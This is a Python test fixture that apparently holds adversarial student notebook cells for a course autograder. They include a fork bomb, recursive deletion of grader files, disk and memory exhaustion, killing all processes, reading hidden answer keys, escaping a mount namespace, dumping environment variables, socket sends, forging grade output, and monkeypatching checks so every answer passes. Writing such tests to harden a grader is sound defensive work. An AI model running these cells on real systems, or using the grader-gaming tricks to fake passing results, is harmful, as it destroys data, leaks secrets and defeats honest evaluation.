"""Notebooks that mean harm, as code cells; {place} names folders and files of the teacher, {port} a listener, {mark} a word to find."""

FIRST = """
def guided(v_empty, v_prompt, guidance_scale):
    return v_empty + guidance_scale * (v_prompt - v_empty)
"""                                                                   # a right answer, so that a point shows what still worked

LOOP = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
BOMB = """
import os
while True:
    try:
        os.fork()
    except BaseException:
        pass
"""
DELETE = """
import os, pathlib, shutil
for place in {places!r}:
    shutil.rmtree(place, ignore_errors=True)
    for work in (os.unlink, os.rmdir, lambda p: os.rename(p, p + ".gone"), lambda p: os.truncate(p, 0), lambda p: os.chmod(p, 0),
                 lambda p: open(p, "w").write("x"), lambda p: open(p + ".new", "w").write("x")):
        try:
            work(place)
        except BaseException:
            pass
import medgen_kit
try:
    pathlib.Path(medgen_kit.__file__).with_name("was_here.txt").write_text("x")
except BaseException:
    pass
"""
PRINT = """
import os, sys
for _ in range(300):
    print("x" * 1_000_000)
    sys.stderr.write("x" * 1_000_000)
    os.write(1, b"x" * 1_000_000)
"""
FILL = """
import os
for k in range(40):
    try:
        with open(f"/scratch/{{k}}", "wb") as file:
            for _ in range(400):
                file.write(b"x" * 1_000_000)
    except BaseException:
        pass
"""
FORGE = """
import json, os
lines = [{{"points": 2, "of": 2, "reason": ""}}, {{"student": "me", "exercise": "guided", "points": 2}}, {{"exercise": "", "outputs": []}},
         {{"exercise": "guided", "outputs": [{{"output": "right", "expected": "right"}}] * 7, "points": 2}}, {{"cells": ["x"]}},
         {{"cells": 3}},
         {{"exercise": "euler", "outputs": {{"points": 2}}}}, {{"exercise": ["euler"], "outputs": 1}}, [1], None, "x", {{"end": True}}]
for number in range(64):
    for line in lines:
        try:
            os.write(number, (json.dumps(line) + chr(10)).encode() + b"{{" * 2000 + b"[" * 100_000 + bytes([10, 255, 0, 10]))
        except OSError:
            pass
for name in ("grades.csv", "/scratch/grades.csv"):
    open(name, "w").write("student,exercise,points,of,reason")
"""
READ = """
import importlib, os
seen = []
for place in {places!r}:
    try:
        seen.append(open(place).read() if not os.path.isdir(place) else os.listdir(place))
    except OSError:
        pass
try:
    seen.append([task.solve for task in importlib.import_module("medgen_kit.exercise.answers").TASKS])
except Exception:
    pass
try:
    import medgen_kit as kit
    seen.append(kit.check("guided", None))
except BaseException:
    pass
def guided(v_empty, v_prompt, guidance_scale):
    return str(seen)
"""
UNMASK = """
import ctypes, os
import medgen_kit
libc = ctypes.CDLL(None)
hidden = os.path.join(os.path.dirname(medgen_kit.__file__), "exercise", "answers")
def attempt():
    libc.unshare(0x10000000 | 0x20000)
    for _ in range(3):
        libc.umount2(hidden.encode(), 2)
    libc.mount(b"none", b"/usr", b"", ctypes.c_ulong(4096 | 32), b"")
    found = os.listdir(hidden)
    try:
        open("/usr/lib/was_here", "w").close()
        found.append("written")
    except OSError:
        pass
    return found
back, forth = os.pipe()
if not os.fork():
    os.write(forth, repr(attempt()).encode())
    os._exit(0)
os.close(forth)
found = os.read(back, 9999).decode()
def guided(v_empty, v_prompt, guidance_scale):
    return "seen: " + found
"""
PATCH = """
import builtins, json, os, sys, numpy
import medgen_kit.exercise.plain as plain, medgen_kit.exercise.trial as trial
json.dumps = lambda *a, **k: '{{"exercise": "guided", "outputs": "all right"}}'
numpy.array = numpy.asarray = numpy.allclose = lambda *a, **k: True
plain.same = plain.agree = lambda *a, **k: True
plain.plain = trial.plain = lambda *a, **k: "right"
builtins.abs = builtins.len = lambda *a: 0
sys.modules["medgen_kit.exercise.verdict"] = None
os.write = lambda *a: 0
"""
EXIT = "import sys\nsys.exit(0)"
EXIT_IN_ANSWER = """
import os
def guided(v_empty, v_prompt, guidance_scale):
    os._exit(0)
"""
DAEMON = """
import os, subprocess, sys
for _ in range(3):
    if not os.fork():
        os.setsid()
        if not os.fork():
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "{mark}"])
        os._exit(0)
"""
SOCKET = """
import os, socket
sent = []
for kind, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_UNIX, "{socket}"),
                      (socket.AF_UNIX, "{abstract}")):
    try:
        with socket.socket(kind, socket.SOCK_STREAM) as one:
            one.settimeout(0.5)
            one.connect(address if address != "@" else chr(0) + "medgen-test")
            one.sendall(b"answers")
            sent.append(address)
    except OSError:
        pass
def guided(v_empty, v_prompt, guidance_scale):
    return "sent: " + str(sent)
"""
KILL = """
import os, signal
for target in (-1, os.getppid(), 1, {pid}):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""
MEMORY = """
held = []
while True:
    try:
        held.append(bytearray(50_000_000))
    except MemoryError:
        break
import os
if not os.fork() or not os.fork():
    held = [bytearray(os.urandom(1000)) * 200_000 for _ in range(50)]
"""
ENVIRONMENT = """
import os
def guided(v_empty, v_prompt, guidance_scale):
    return str(dict(os.environ))
"""
TRICKS = """
class Answer(float):
    plain = {{"array": [1]}}
    def __getattr__(self, name):
        return self
def guided(v_empty, v_prompt, guidance_scale):
    raise ValueError("=HYPERLINK(1)" + chr(10) + chr(27) + "[31m" + "x" * 100_000)
def euler(velocity, x, levels):
    return Answer(1)
"""
SURROGATE = """
def guided(v_empty, v_prompt, guidance_scale):
    raise ValueError(chr(0xd800))
"""
SURROGATE_IN_CELL = "del guided\nraise ValueError(chr(0xd800))"
SURROGATE_FORGED = """
import os
one = b'{{"output": {{"kind": "' + bytes([92]) + b'ud800"}}}}'
os.write(3, b'{{"exercise": "guided", "outputs": [' + b", ".join([one] * {count}) + b"]}}")
os.write(3, bytes([10]))
"""
NOTEBOOKS = {"loop": LOOP, "bomb": BOMB, "delete": DELETE, "print": PRINT, "fill": FILL, "forge": FORGE, "read": READ, "unmask": UNMASK,
             "patch": PATCH, "exit": EXIT, "exit_in_answer": EXIT_IN_ANSWER, "daemon": DAEMON, "socket": SOCKET, "kill": KILL,
             "memory": MEMORY, "environment": ENVIRONMENT, "tricks": TRICKS, "surrogate": SURROGATE, "surrogate_in_cell": SURROGATE_IN_CELL,
             "surrogate_forged": SURROGATE_FORGED}
